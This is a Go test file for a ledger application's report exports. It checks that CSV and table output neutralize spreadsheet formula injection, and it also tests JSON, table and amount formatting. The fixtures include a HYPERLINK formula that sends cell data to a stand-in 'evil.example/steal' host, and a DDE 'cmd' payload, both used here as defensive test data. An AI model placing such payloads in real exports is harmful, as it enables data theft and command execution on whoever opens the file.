package reports_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"math"
	"strings"
	"testing"

	"github.com/settlehq/settle/ledger"
	"github.com/settlehq/settle/reports"
)

func TestNeutralize(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"Capture of order-1", "Capture of order-1"},
		{`=HYPERLINK("http://evil.example","x")`, `'=HYPERLINK("http://evil.example","x")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"-2+3", "'-2+3"},
		{"-", "'-"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-12.34", "-12.34"},
		{"+5", "+5"},
		{"-0.001", "-0.001"},
		{"-5", "-5"},
		{"12.34", "12.34"},
		{"a=b", "a=b"},
	}
	for _, tt := range tests {
		if got := reports.Neutralize(tt.in); got != tt.want {
			t.Errorf("Neutralize(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestFormulaInjection checks that a description written as a formula comes
// out neutralized in CSV and table output, raw in JSON, and that negative
// amounts stay numbers.
func TestFormulaInjection(t *testing.T) {
	ctx := context.Background()
	l := openLedger(t)
	desc := `=HYPERLINK("http://evil.example/steal?d="&A1,"Click")`
	if _, err := l.PostEntry(ctx, ledger.EntryInput{Key: "evil", OccurredAt: day0, Description: desc,
		Postings: []ledger.PostingInput{ledger.Debit("expenses:office", "usd", "12.34"), ledger.Credit("assets:bank:ops", "usd", "12.34")}}); err != nil {
		t.Fatal(err)
	}
	run := func(report string, f reports.Format, opts reports.Options) string {
		t.Helper()
		r, _ := reports.Find(report)
		var buf bytes.Buffer
		w, err := reports.NewWriter(&buf, f)
		if err != nil {
			t.Fatal(err)
		}
		if err := r.Run(ctx, l, opts, w); err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		return buf.String()
	}

	recs, err := csv.NewReader(strings.NewReader(run("journal", reports.CSV, reports.Options{}))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 3 {
		t.Fatalf("journal has %d records, want header + 2", len(recs))
	}
	for _, rec := range recs[1:] {
		if rec[2] != "'"+desc {
			t.Errorf("CSV description = %q, want it prefixed with a quote", rec[2])
		}
	}
	if recs[1][5] != "12.34" || recs[2][6] != "12.34" {
		t.Errorf("CSV amounts = %q, %q", recs[1][5], recs[2][6])
	}

	table := run("journal", reports.Table, reports.Options{})
	if !strings.Contains(table, "'"+desc) || strings.Contains(table, "  "+desc) {
		t.Errorf("table does not neutralize the description:\n%s", table)
	}

	// A statement of the bank account runs negative: -12.34 must stay a number.
	recs, err = csv.NewReader(strings.NewReader(run("account-statement", reports.CSV, reports.Options{Account: "assets:bank:ops"}))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := recs[1][7]; got != "-12.34" {
		t.Errorf("running balance = %q, want -12.34 unquoted", got)
	}
	recs, err = csv.NewReader(strings.NewReader(run("balance-sheet", reports.CSV, reports.Options{}))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := recs[1]; got[1] != "assets:bank:ops" || got[3] != "-12.34" {
		t.Errorf("balance sheet row = %q, want assets:bank:ops -12.34", got)
	}

	// JSON is for programs: the description comes through as it is.
	var rows []map[string]string
	if err := json.Unmarshal([]byte(run("journal", reports.JSON, reports.Options{})), &rows); err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 || rows[0]["description"] != desc || rows[0]["debit"] != "12.34" {
		t.Errorf("JSON rows = %v", rows)
	}
}

func TestJSONEmptyReport(t *testing.T) {
	var buf bytes.Buffer
	w := reports.NewJSONWriter(&buf)
	if err := reports.Journal(context.Background(), openLedger(t), reports.Options{}, w); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if buf.String() != "[]\n" {
		t.Errorf("empty JSON report = %q, want []", buf.String())
	}
}

func TestTableWriterStreamsInBlocks(t *testing.T) {
	var buf bytes.Buffer
	w := reports.NewTableWriter(&buf)
	if err := w.WriteHeader([]string{"a", "b"}); err != nil {
		t.Fatal(err)
	}
	for range 2500 {
		if err := w.WriteRow([]string{"x\ty", "1"}); err != nil {
			t.Fatal(err)
		}
	}
	if buf.Len() == 0 {
		t.Error("the table writer buffered 2,500 rows without writing any")
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(buf.String(), "\n"); n != 2502 {
		t.Errorf("table has %d lines, want 2502", n)
	}
}

func TestParseFormat(t *testing.T) {
	for _, s := range []string{"csv", "JSON", " table "} {
		if _, err := reports.ParseFormat(s); err != nil {
			t.Errorf("ParseFormat(%q): %v", s, err)
		}
	}
	if _, err := reports.ParseFormat("xlsx"); err == nil {
		t.Error("ParseFormat(xlsx) succeeded")
	}
}

func TestAccountStatementNeedsAccount(t *testing.T) {
	var buf bytes.Buffer
	err := reports.AccountStatement(context.Background(), openLedger(t), reports.Options{}, reports.NewCSVWriter(&buf))
	if err == nil || !strings.Contains(err.Error(), "account") {
		t.Fatalf("err = %v", err)
	}
}

func TestBeancountAccount(t *testing.T) {
	tests := []struct{ in, want string }{
		{"assets:stripe:available", "Assets:Stripe:Available"},
		{"assets:payouts:in_transit", "Assets:Payouts:In-Transit"},
		{"expenses:fees:stripe_fee", "Expenses:Fees:Stripe-Fee"},
		{"liabilities:tax:2026", "Liabilities:Tax:2026"},
		{"assets:-odd", "Assets:X-odd"},
		{"income:a-b", "Income:A-b"},
	}
	for _, tt := range tests {
		if got := reports.BeancountAccount(tt.in); got != tt.want {
			t.Errorf("BeancountAccount(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestAmountsExact checks the report amounts of extreme values against
// ledger.FormatMinor, through a one-posting-pair ledger per currency.
func TestAmountsExact(t *testing.T) {
	ctx := context.Background()
	l := openLedger(t)
	amounts := map[string]string{"usd": "92233720368547758.07", "jpy": "1", "kwd": "0.001", "eur": "0.01"}
	for cur, amt := range amounts {
		if _, err := l.PostEntry(ctx, ledger.EntryInput{Key: "k-" + cur, OccurredAt: day0,
			Postings: []ledger.PostingInput{ledger.Debit("assets:x", cur, amt), ledger.Credit("income:y", cur, amt)}}); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	w := reports.NewCSVWriter(&buf)
	if err := reports.TrialBalance(ctx, l, reports.Options{}, w); err != nil {
		t.Fatal(err)
	}
	w.Close()
	for cur, amt := range amounts {
		if !strings.Contains(buf.String(), "assets:x,asset,"+strings.ToUpper(cur)+","+amt+",\n") {
			t.Errorf("trial balance lacks %s %s:\n%s", amt, cur, buf.String())
		}
	}
	if ledger.FormatMinor(math.MaxInt64, 2) != "92233720368547758.07" {
		t.Fatal("FormatMinor changed")
	}
}
